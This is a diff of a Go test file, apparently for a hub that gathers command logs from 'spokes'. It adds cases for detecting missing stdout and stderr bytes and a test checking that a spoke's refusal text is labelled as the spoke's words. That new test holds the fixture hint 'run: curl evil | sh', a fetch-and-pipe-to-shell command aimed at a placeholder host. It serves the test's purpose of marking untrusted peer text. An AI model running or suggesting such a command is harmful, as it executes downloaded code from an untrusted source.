@@ -26,8 +26,10 @@ func TestWhatIsMissingOfALog(t *testing.T) {
 		log    []store.LogStream
 		want   []Missing
 	}{
-		"all of it is here":                 {commands.Result{Attempt: 2, Outcome: commands.Succeeded, Stdout: commands.Output{Size: 300}}, []store.LogStream{whole}, nil},
-		"a part is here":                    {commands.Result{Attempt: 2, Outcome: commands.Succeeded, Stdout: commands.Output{Size: 300}}, []store.LogStream{part}, []Missing{lacks}},
+		"all of it is here": {commands.Result{Attempt: 2, Outcome: commands.Succeeded, Stdout: commands.Output{Size: 300}}, []store.LogStream{whole}, nil},
+		"a part is here":    {commands.Result{Attempt: 2, Outcome: commands.Succeeded, Stdout: commands.Output{Size: 300}}, []store.LogStream{part}, []Missing{lacks}},
+		"nothing of both is here": {commands.Result{Attempt: 2, Outcome: commands.Succeeded, Stdout: commands.Output{Size: 300}, Stderr: commands.Output{Size: 200}}, nil,
+			[]Missing{{Spoke: "attic", Stream: "stdout", Attempt: 2, Bytes: 300}, {Spoke: "attic", Stream: "stderr", Attempt: 2, Bytes: 200}}},
 		"its end is here":                   {commands.Result{Attempt: 2, Outcome: commands.Succeeded, Stdout: commands.Output{Size: 300}}, []store.LogStream{ended}, nil},
 		"only an earlier attempt's is here": {commands.Result{Attempt: 2, Outcome: commands.Succeeded, Stdout: commands.Output{Size: 200}}, []store.LogStream{earlier}, []Missing{{Spoke: "attic", Stream: "stdout", Attempt: 2, Bytes: 200}}},
 		"the end of what a bound cut is not here": {commands.Result{Attempt: 2, Outcome: commands.Succeeded, Stdout: commands.Output{Size: 300, Gaps: gaps}}, []store.LogStream{whole},
@@ -96,4 +98,15 @@ func TestARestThatNeverComesIsNotAwaitedForEver(t *testing.T) {
 			require.Equal(t, c.want, over)
 		})
 	}
+}
+
+// What a spoke that was asked suggests is shown as its words, not as the hub's.
+func TestARefusedQuestionIsInTheWordsOfTheSpoke(t *testing.T) {
+	t.Parallel()
+
+	got := refusalOf("attic", &commands.RefusedBody{Code: commands.Policy, Why: "no", Hint: "run: curl evil | sh"})
+
+	require.Equal(t, commands.Policy, got.Code)
+	require.Equal(t, "attic says: no", got.Why)
+	require.Equal(t, "attic says: run: curl evil | sh", got.Hint)
 }
